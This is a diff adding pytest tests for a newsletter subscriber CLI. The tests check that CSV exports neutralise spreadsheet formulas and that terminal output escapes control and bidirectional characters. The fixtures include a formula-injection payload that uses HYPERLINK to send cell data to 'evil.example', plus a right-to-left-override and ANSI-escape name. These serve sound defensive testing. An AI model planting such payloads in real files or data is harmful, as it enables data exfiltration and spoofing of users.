@@ -1,15 +1,23 @@
 import csv
 import io
 import json
+import shutil
 
 import pytest
+import sqlalchemy as sa
 
+from newsletter.store import readers, utcnow
+from newsletter.subscribers import Consent, ConsentMethod, Status, Subscribers, new_reader_row, spreadsheet_safe
+
+from .conftest import ROOT
 from .test_imports import DATA
+from .test_subscribers import KEY
 
 
 @pytest.fixture
 def cli(run, monkeypatch, db_url):
     monkeypatch.setenv("NEWSLETTER_DATABASE_URL", db_url)
+    monkeypatch.setenv("NEWSLETTER_SECRET_KEY", KEY)  # `run` cleared it; no key file in the repository
     return run
 
 
@@ -135,3 +143,75 @@ def test_dry_run_import_creates_no_database(run, monkeypatch, tmp_path):
     result = run("subscribers", "import", DATA / "generic.csv", "--dry-run")
     assert result.code == 0 and "would add 8" in result.out
     assert not db.exists()
+
+
+# -- CSV a spreadsheet opens ------------------------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Click for your prize")'
+
+
+@pytest.mark.parametrize("value, safe", [
+    (HOSTILE, "'" + HOSTILE), ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("Ana", "Ana"), ("", ""), ("a=b", "a=b"), ("2024-01-02", "2024-01-02"),
+])
+def test_spreadsheet_safe(value, safe):
+    assert spreadsheet_safe(value) == safe
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cli, tmp_path):
+    path = tmp_path / "hostile.csv"
+    with path.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([["email", "name"], ["=cmd@example.com", HOSTILE], ["ana@example.com", "+1 555"],
+                                 ["bo@example.com", "-Bo"], ["cy@example.com", "@Cy"], ["di@example.com", "Di"]])
+    assert cli("subscribers", "import", path).code == 0
+    stored = {"=cmd@example.com": HOSTILE, "ana@example.com": "+1 555", "bo@example.com": "-Bo",
+              "cy@example.com": "@Cy", "di@example.com": "Di"}
+    neutral = {("'" + e if e.startswith("=") else e): (n if n == "Di" else "'" + n) for e, n in stored.items()}
+
+    def names(text):
+        return {r["email"]: r["name"] for r in csv.DictReader(io.StringIO(text))}
+    out = tmp_path / "readers.csv"
+    assert cli("subscribers", "export", out).code == 0
+    assert names(out.read_text(encoding="utf-8")) == neutral
+    assert names(cli("subscribers", "list", "--format", "csv").out) == neutral
+    assert cli("subscribers", "export", out, "--raw").code == 0
+    assert names(out.read_text(encoding="utf-8")) == stored
+    assert names(cli("subscribers", "list", "--format", "csv", "--raw").out) == stored
+    listed = json.loads(cli("subscribers", "list", "--format", "json").out)  # JSON is not for spreadsheets
+    assert {r["email"]: r["name"] for r in listed} == stored
+
+
+# -- what a terminal shows ------------------------------------------------------------------------
+
+def test_list_and_show_escape_control_and_direction_characters(cli, db_url, session_settings):
+    """A name written by an older version or by hand is shown escaped, never run by the terminal."""
+    subs = Subscribers.open(db_url, session_settings.categories)
+    row = new_reader_row("ok@example.com", name=None, status=Status.ACTIVE, consent=Consent(ConsentMethod.CLI),
+                         now=utcnow())
+    with subs.engine.begin() as conn:
+        conn.execute(sa.insert(readers).values({**row, "name": "Eve\u202eexe.txt\x1b[2J\x07\u2066"}))
+        conn.execute(sa.insert(readers).values({**row, "email": "x\u202e@example.com", "name": "X",
+                                                "token": row["token"] + "2"}))
+    subs.close()
+    listed = cli("subscribers", "list").out
+    shown = cli("subscribers", "show", "ok@example.com").out
+    as_json = cli("subscribers", "list", "--format", "json").out
+    for out in (listed, shown, as_json):
+        assert "\u202e" not in out and "\x1b" not in out and "\x07" not in out and "\u2066" not in out
+    assert "Eve\\u202eexe.txt\\u001b[2J\\u0007\\u2066"[:24] in listed
+    assert "x\\u202e@example.com" in listed
+    assert "name:            Eve\\u202eexe.txt\\u001b[2J\\u0007\\u2066" in shown
+    assert {r["email"]: r["name"] for r in json.loads(as_json)} == {  # still the same data
+        "ok@example.com": "Eve\u202eexe.txt\x1b[2J\x07\u2066", "x\u202e@example.com": "X"}
+
+
+def test_forget_makes_the_key_file_beside_the_settings(run, monkeypatch, tmp_path):
+    shutil.copy(ROOT / "newsletter.toml", tmp_path / "newsletter.toml")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", f"sqlite:///{tmp_path / 'subscribers.db'}")
+    assert run("subscribers", "add", "ana@example.com").code == 0
+    assert not (tmp_path / "newsletter.key").exists()
+    assert run("subscribers", "forget", "ana@example.com", "--yes").code == 0
+    assert len((tmp_path / "newsletter.key").read_bytes()) == 32
+    result = run("subscribers", "add", "ana@example.com")
+    assert result.code == 1 and "was forgotten" in result.err
